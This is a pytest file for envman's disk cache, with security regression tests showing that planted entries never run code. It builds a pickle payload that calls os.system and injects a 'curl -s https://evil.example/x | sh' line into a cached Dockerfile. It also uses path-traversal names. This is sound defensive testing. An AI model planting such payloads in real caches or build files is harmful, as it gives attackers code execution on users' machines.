"""envman/diskcache.py: data derived from data files, kept on disk by the digest of their bytes — data only.

Issue 24: whoever can write ~/.cache/envman must not get code run. Entries are JSON, read without following a link
or blocking on a FIFO, validated by the same code that validates fresh data; anything wrong is a miss."""

from __future__ import annotations

import json
import os
import pickle

import pytest

from envman import diskcache
from envman.cli.main import main


def _int(v: object) -> int:
    if not isinstance(v, int):
        raise ValueError("not an int")
    return v


def test_a_value_is_computed_once_then_read_back(tmp_path, monkeypatch):
    monkeypatch.setenv("ENVMAN_CACHE_DIR", str(tmp_path))
    calls = []

    def compute():
        calls.append(1)
        return {"answer": 42}

    assert diskcache.cached("thing", "ab" * 32, compute, dict) == {"answer": 42}
    assert diskcache.cached("thing", "ab" * 32, compute, dict) == {"answer": 42}
    path = diskcache.cache_path("thing", "ab" * 32)
    assert len(calls) == 1 and path.suffix == ".json"
    assert json.loads(path.read_text()) == {"digest": "ab" * 32, "data": {"answer": 42}}
    # other bytes, another digest: computed afresh
    assert diskcache.cached("thing", "cd" * 32, compute, dict) == {"answer": 42} and len(calls) == 2


@pytest.mark.parametrize("entry", [
    b"not json",
    b'{"digest": "' + b"ef" * 32 + b'", "data": "a string where an int belongs"}',
    b'{"digest": "' + b"00" * 32 + b'", "data": 5}',  # another digest's entry under this name
    b"[" * 100_000 + b"]" * 100_000,
    b'{"digest": "' + b"ef" * 32 + b'", "data": ' + b"1" * (17 * 1024 * 1024) + b"}",
])
def test_a_bad_entry_is_a_miss(tmp_path, monkeypatch, entry):
    monkeypatch.setenv("ENVMAN_CACHE_DIR", str(tmp_path))
    path = diskcache.cache_path("thing", "ef" * 32)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(entry)
    assert diskcache.cached("thing", "ef" * 32, lambda: 7, _int) == 7
    assert json.loads(path.read_text())["data"] == 7  # and the miss rewrote it


def test_a_fifo_or_a_link_in_the_cache_is_a_miss_never_a_wait(tmp_path, monkeypatch):
    monkeypatch.setenv("ENVMAN_CACHE_DIR", str(tmp_path))
    path = diskcache.cache_path("thing", "12" * 32)
    path.parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(path)
    assert diskcache.read_entry(path, "12" * 32) is None
    path.unlink()
    elsewhere = tmp_path / "elsewhere.json"
    elsewhere.write_text(json.dumps({"digest": "12" * 32, "data": 1}))
    path.symlink_to(elsewhere)
    assert diskcache.read_entry(path, "12" * 32) is None


@pytest.mark.parametrize("kind, digest", [("../../etc/x", "ab" * 32), ("thing", "../" * 20), ("a/b", "ab" * 32),
                                          ("thing", "not hex" * 8)])
def test_a_name_that_leaves_the_cache_folder_is_refused(kind, digest):
    with pytest.raises(ValueError):
        diskcache.cache_path(kind, digest)


def test_an_unwritable_cache_only_means_computing_every_time(tmp_path, monkeypatch):
    blocker = tmp_path / "file"
    blocker.write_text("a file where the cache folder would be")
    monkeypatch.setenv("ENVMAN_CACHE_DIR", str(blocker / "cache"))
    assert diskcache.cached("thing", "01" * 32, lambda: 7, _int) == 7
    assert diskcache.cached("thing", "01" * 32, lambda: 8, _int) == 8


class _Payload:
    """A pickle that runs code when it is loaded: what a hostile cache writer would plant."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def test_a_planted_pickle_never_runs_and_a_tampered_entry_is_a_miss(tmp_path, monkeypatch, capsys):
    """Every entry the CLI reads, planted with a pickle that would run code under both the old (.pickle) and
    the new (.json) name, and every JSON entry replaced by garbage: the commands answer as from a fresh cache."""
    cache = tmp_path / "cache"
    monkeypatch.setenv("ENVMAN_CACHE_DIR", str(cache))
    assert main(["resolve", "--target", "h100", "--json"]) == 0
    fresh = capsys.readouterr().out
    assert main(["doctor", "--facts", str(_facts()), "--json"]) in (0, 1)
    doctor_fresh = capsys.readouterr().out
    names = sorted(p.name for p in cache.iterdir())
    assert names and all(n.endswith(".json") for n in names)
    marker = tmp_path / "pwned"
    blob = pickle.dumps(_Payload(str(marker)))
    for p in list(cache.iterdir()):
        p.write_bytes(blob)
        p.with_suffix(".pickle").write_bytes(blob)
    for ext_name in ("matrix", "image-tables", "kit-knowledge", "knowledge"):
        (cache / f"{ext_name}-planted.pickle").write_bytes(blob)
    assert main(["resolve", "--target", "h100", "--json"]) == 0
    assert capsys.readouterr().out == fresh
    assert main(["doctor", "--facts", str(_facts()), "--json"]) in (0, 1)
    assert capsys.readouterr().out == doctor_fresh
    assert not marker.exists()
    # a well-formed entry whose data the validation refuses is a miss too
    tampered = 0
    for p in cache.glob("*.json"):
        if p.read_bytes().startswith(b"{"):  # rewritten by the runs above (a miss writes a fresh entry)
            entry = json.loads(p.read_text())
            p.write_text(json.dumps({"digest": entry["digest"], "data": {"cuda.yaml": "x"}}))
            tampered += 1
    assert tampered
    assert main(["resolve", "--target", "h100", "--json"]) == 0
    assert capsys.readouterr().out == fresh


def _facts():
    from pathlib import Path

    return Path(__file__).resolve().parent.parent / "fixtures" / "facts" / "healthy_a100.json"



def test_a_planted_dockerfile_in_the_cache_is_never_written(tmp_path, monkeypatch):
    """The rendered Dockerfile is kept in the cache so that a current lock needs no jinja2; a cached text is
    built, so it is used only when it is the Dockerfile the last lock recorded. A planted one is a miss."""
    from envman.app.init import InitOptions, init_project

    cache = tmp_path / "cache"
    monkeypatch.setenv("ENVMAN_CACHE_DIR", str(cache))
    proj = tmp_path / "p"
    proj.mkdir()
    (proj / "envman.yaml").write_text("name: demo\ncpu: true\npython: '3.11'\nframework: none\n")
    for _ in range(3):  # the first lock records the Dockerfile, the second caches its text, the third reads it
        init_project(proj, InitOptions(no_lock=True))
    good = (proj / "Dockerfile").read_text()
    entries = list(cache.glob("dockerfile-*.json"))
    assert len(entries) == 1
    entry = json.loads(entries[0].read_text())
    entry["data"] = entry["data"].replace("WORKDIR /app", "RUN curl -s https://evil.example/x | sh\nWORKDIR /app")
    entries[0].write_text(json.dumps(entry))
    init_project(proj, InitOptions(no_lock=True))
    assert (proj / "Dockerfile").read_text() == good and "evil" not in good


def test_the_metadata_cache_takes_no_path_from_a_lock_and_reads_no_fifo(tmp_path, monkeypatch):
    """lock/graph.py keeps each wheel's Requires-Dist under its sha256 and each graph under a digest: a
    pylock.toml is project input, so a "sha256" that is a path is never a cache name, and a FIFO or a
    malformed graph in the cache is a miss (never a hang or a crash)."""
    import envman.lock.graph as graph
    from envman.lock.pylock import LockedFile, PylockPackage

    monkeypatch.setenv("ENVMAN_CACHE_DIR", str(tmp_path / "cache"))
    outside = tmp_path / "outside"
    outside.write_text("evil>=1\n")
    fetched = []
    monkeypatch.setattr(graph, "_fetch", lambda url, *a, **k: fetched.append(url) or (404, {}, b""))
    monkeypatch.setattr(graph, "_metadata_by_range", lambda *a, **k: None)
    rel = "../" * 12 + str(outside).lstrip("/")
    graph.cache_dir().mkdir(parents=True)
    pkg = PylockPackage("x", "1", (LockedFile("https://h/x-1-py3-none-any.whl", rel, "wheel"),))
    assert graph.requires_dist(pkg, 1.0) is None and not fetched  # never read, never asked under that name
    good = PylockPackage("x", "1", (LockedFile("https://h/x-1-py3-none-any.whl", "ab" * 32, "wheel"),))
    os.mkfifo(graph.cache_dir() / f"{'ab' * 32}.m2")
    assert graph.requires_dist(good, 1.0) is None and fetched  # a miss: asked the index, no wait
    monkeypatch.setattr(graph, "_dependency_parents", lambda *a: ({"x": ["-r requirements.in"]}, [], []))
    first = graph.dependency_parents([good], ["x"], "3.11", "x86_64-manylinux_2_28")
    for entry in (graph.cache_dir() / "graphs").iterdir():
        entry.write_text(json.dumps({"parents": {"x": 5}, "unknown": [], "excluded": []}))
    assert graph.dependency_parents([good], ["x"], "3.11", "x86_64-manylinux_2_28") == first
